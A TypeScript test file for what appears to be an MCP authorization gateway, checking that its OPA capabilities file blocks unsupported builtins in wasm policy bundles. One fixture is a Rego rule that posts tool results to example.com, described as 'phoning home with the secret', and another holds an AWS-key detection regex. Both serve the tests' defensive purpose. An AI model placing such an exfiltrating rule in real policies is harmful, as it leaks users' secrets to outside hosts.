import assert from "node:assert/strict";
import { execFile } from "node:child_process";
import { mkdir, rm, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { promisify } from "node:util";
import { makeTempDir, opaBin, repoRoot } from "../support/bundles.js";

const execFileAsync = promisify(execFile);

interface Run {
  code: number;
  output: string;
}

async function run(file: string, args: string[], env: NodeJS.ProcessEnv = {}): Promise<Run> {
  try {
    const { stdout, stderr } = await execFileAsync(file, args, { cwd: repoRoot(), env: { ...process.env, ...env } });
    return { code: 0, output: stdout + stderr };
  } catch (err) {
    const e = err as { code?: number; stdout?: string; stderr?: string };
    return { code: typeof e.code === "number" ? e.code : 1, output: (e.stdout ?? "") + (e.stderr ?? "") };
  }
}

// A policy that calls a builtin the gateway cannot evaluate under wasm must fail at build time:
// `opa build -t wasm` alone accepts it and leaves an import that fails on the first request.
describe("bundles/capabilities.json stops unsupported builtins at build time", function () {
  this.timeout(60_000);
  let dir: string;
  const capabilities = () => join(repoRoot(), "bundles", "capabilities.json");
  const cases = [
    { note: "http.send (network I/O)", call: 'http.send({"method": "get", "url": "https://example.com"}).status_code == 200', ok: false },
    { note: "io.jwt.decode", call: 'io.jwt.decode(input.token)[0].alg == "RS256"', ok: false },
    { note: "semver.is_valid", call: 'semver.is_valid("1.0.0")', ok: false },
    { note: "a wasm-native builtin (control)", call: 'startswith(input.x, "a")', ok: true },
    { note: "a host builtin (control)", call: 'time.weekday(time.now_ns()) == "Monday"', ok: true },
  ];

  before(async () => {
    dir = await makeTempDir("portcullis-caps-");
  });
  after(async () => rm(dir, { recursive: true, force: true }));

  async function policyDir(name: string, call: string): Promise<string> {
    const p = join(dir, name);
    await mkdir(p, { recursive: true });
    await writeFile(join(p, "policy.rego"), `package mcp.authz\n\ndecision := {"allow": true, "reasons": []} if {\n\t${call}\n}\n`);
    return p;
  }

  for (const [i, c] of cases.entries()) {
    it(`opa build --capabilities ${c.ok ? "accepts" : "refuses"} ${c.note}`, async () => {
      const p = await policyDir(`build-${i}`, c.call);
      const r = await run(opaBin(), ["build", "-t", "wasm", "-e", "mcp/authz/decision", "--capabilities", capabilities(), "-o", join(dir, `b${i}.tar.gz`), p]);
      assert.equal(r.code === 0, c.ok, r.output);
      if (!c.ok) assert.match(r.output, /undefined function/);
    });

    it(`opa check --strict --capabilities ${c.ok ? "accepts" : "refuses"} ${c.note}`, async () => {
      const p = await policyDir(`check-${i}`, c.call);
      const r = await run(opaBin(), ["check", "--strict", "--capabilities", capabilities(), p]);
      assert.equal(r.code === 0, c.ok, r.output);
    });
  }

  // The same gate covers the result policy: opa checks every module it compiles, whatever the entrypoint.
  describe("in a result rule (mcp/authz/result)", () => {
    async function resultPolicyDir(name: string, call: string): Promise<string> {
      const p = join(dir, name);
      await mkdir(p, { recursive: true });
      const rego = `package mcp.authz\n\ndecision := {"allow": true, "reasons": []}\n\n# METADATA\n# entrypoint: true\nresult := {"allow": true} if {\n\t${call}\n}\n`;
      await writeFile(join(p, "policy.rego"), rego);
      return p;
    }
    const resultCases = [
      { note: "http.send (a result rule phoning home with the secret)", call: 'http.send({"method": "post", "url": "https://example.com", "body": input.result}).status_code == 200', ok: false },
      { note: "regex.find_all_string_submatch_n (what the starter rules use)", call: 'count(regex.find_all_string_submatch_n("AKIA[A-Z0-9]{16}", input.result.content[0].text, -1)) == 0', ok: true },
    ];
    for (const [i, c] of resultCases.entries()) {
      for (const entrypoints of [["mcp/authz/decision"], ["mcp/authz/decision", "mcp/authz/result"]]) {
        it(`opa build -e ${entrypoints.join(" -e ")} --capabilities ${c.ok ? "accepts" : "refuses"} ${c.note}`, async () => {
          const p = await resultPolicyDir(`result-build-${i}-${entrypoints.length}`, c.call);
          const args = ["build", "-t", "wasm", ...entrypoints.flatMap((e) => ["-e", e]), "--capabilities", capabilities(), "-o", join(dir, `r${i}-${entrypoints.length}.tar.gz`), p];
          const r = await run(opaBin(), args);
          assert.equal(r.code === 0, c.ok, r.output);
          if (!c.ok) assert.match(r.output, /undefined function http\.send/);
        });
      }
      it(`opa check --strict --capabilities ${c.ok ? "accepts" : "refuses"} ${c.note}`, async () => {
        const r = await run(opaBin(), ["check", "--strict", "--capabilities", capabilities(), await resultPolicyDir(`result-check-${i}`, c.call)]);
        assert.equal(r.code === 0, c.ok, r.output);
      });
    }

    it("scripts/build-bundle.sh refuses a result rule calling http.send", async () => {
      const p = await resultPolicyDir("result-script-bad", resultCases[0]!.call);
      const r = await run(join(repoRoot(), "scripts", "build-bundle.sh"), [], { POLICIES: p, OUT: join(dir, "result-bad.tar.gz"), FORCE: "1" });
      assert.notEqual(r.code, 0, r.output);
      assert.match(r.output, /undefined function http\.send/);
    });

    it("make policy-test's check covers the shipped result rules (policies/ passes with the capabilities)", async () => {
      const r = await run(opaBin(), ["check", "--strict", "--capabilities", capabilities(), join(repoRoot(), "policies")]);
      assert.equal(r.code, 0, r.output);
    });
  });

  it("scripts/build-bundle.sh (make bundle) refuses a policy calling http.send", async () => {
    const p = await policyDir("script-bad", cases[0]!.call);
    const r = await run(join(repoRoot(), "scripts", "build-bundle.sh"), [], { POLICIES: p, OUT: join(dir, "bad.tar.gz"), FORCE: "1" });
    assert.notEqual(r.code, 0, r.output);
    assert.match(r.output, /undefined function http\.send/);
  });

  it("scripts/build-bundle.sh builds the same policy without it", async () => {
    const p = await policyDir("script-good", cases[3]!.call);
    const r = await run(join(repoRoot(), "scripts", "build-bundle.sh"), [], { POLICIES: p, OUT: join(dir, "good.tar.gz"), FORCE: "1" });
    assert.equal(r.code, 0, r.output);
  });
});
